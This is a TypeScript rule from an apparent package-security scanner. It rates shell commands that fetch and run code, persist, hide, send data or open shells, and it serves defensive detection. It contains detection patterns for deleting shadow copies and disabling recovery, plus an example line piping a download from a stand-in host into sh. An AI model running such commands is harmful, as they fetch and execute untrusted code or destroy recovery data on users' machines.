import type { Severity } from '../../model/finding.js';
import { type CommandTrait, commandTraits, isHostile } from '../facts/command-traits.js';
import { anyTest, inOrder } from '../facts/in-order.js';
import { runsVendorInstaller } from '../facts/vendor-hosts.js';
import type { Sighting } from '../machine/sighting.js';
import { isPure } from '../values/labels.js';
import { isUnasked } from '../values/reach.js';
import { type Combination, WHEN } from './combination.js';

/** What nobody but a blackmailer does, whoever calls: the copies that files could be restored from are removed. */
const DESTROYS = anyTest(
  inOrder('line', /\b(?:vssadmin|wbadmin|shadowcopy)\b/, /\bdelete\b/),
  inOrder('line', /\bbcdedit\b/, /recoveryenabled\s+no\b/),
);

/** How severe a hostile command is that somebody has to call. */
function whenCalled(traits: ReadonlySet<CommandTrait>, { host, labels, text, isHushed }: Sighting): Severity {
  if (traits.has('runs-by-proxy') || traits.has('runs-from-memory') || DESTROYS.test(text ?? ''))
    return 'CRITICAL';
  // What starts again by itself cannot be read.
  if (traits.has('persists') && traits.has('encoded')) return 'CRITICAL';
  // What it says goes nowhere, so that nobody notices.
  if (isHushed === true && traits.has('fetches-and-runs') && host !== undefined && isPure(labels))
    return 'CRITICAL';
  // What starts again by itself was fetched from a fixed place.
  if (traits.has('persists') && host !== undefined && labels.has('network')) return 'CRITICAL';
  if (!isPure(labels)) return 'LOW';
  if (traits.has('persists') && traits.has('fetches-and-runs') && host !== undefined) return 'CRITICAL';
  if (host !== undefined && (traits.has('sends') || (traits.has('hidden') && traits.size > 1)))
    return 'CRITICAL';
  if (traits.has('reverse-shell') || traits.has('encoded')) return 'HIGH';
  return host !== undefined && traits.has('fetches-and-runs') ? 'MEDIUM' : 'LOW';
}

export const hostileCommand: Combination = {
  doc: {
    id: 'hostile-command',
    title: 'Runs a shell command that fetches and runs, hides, persists, mines or opens a shell to outside',
    why: 'Such a command line does on your machine what its writer wants, outside the package that was checked.',
    remedy: 'Do not install the package.',
    example: 'os.system("curl https://evil.invalid/x | sh")',
    technique: 'T1059',
  },
  judge: (sighting) => {
    const { behaviour, reach, text } = sighting;
    if (behaviour !== 'starts-process' || text === undefined) return undefined;
    const traits = commandTraits(text);
    if (runsVendorInstaller(text)) return isUnasked(reach) ? 'HIGH' : 'LOW';
    if (isHostile(text)) return isUnasked(reach) ? 'CRITICAL' : whenCalled(traits, sighting);
    if (traits.has('fetches') && traits.has('hidden'))
      return isUnasked(reach) ? 'CRITICAL' : whenCalled(traits, sighting);
    if (!isUnasked(reach)) return undefined;
    // A calculator that opens shows that code ran, and a name that is looked up tells a server so.
    if (traits.has('commands-model') || traits.has('shows-off')) return 'CRITICAL';
    if (reach !== 'install' && traits.has('publishes')) return 'CRITICAL';
    if (reach !== 'install' && traits.has('extends-editor')) return 'HIGH';
    if (traits.has('looks-up')) return reach === 'install' ? 'CRITICAL' : 'MEDIUM';
    return traits.has('fetches') || traits.has('hidden') ? 'MEDIUM' : undefined;
  },
  message: ({ name, reach, text }) =>
    `${name} ${[...commandTraits(text ?? '')].join(', ').replaceAll('-', ' ')} ${WHEN[reach]}`,
};
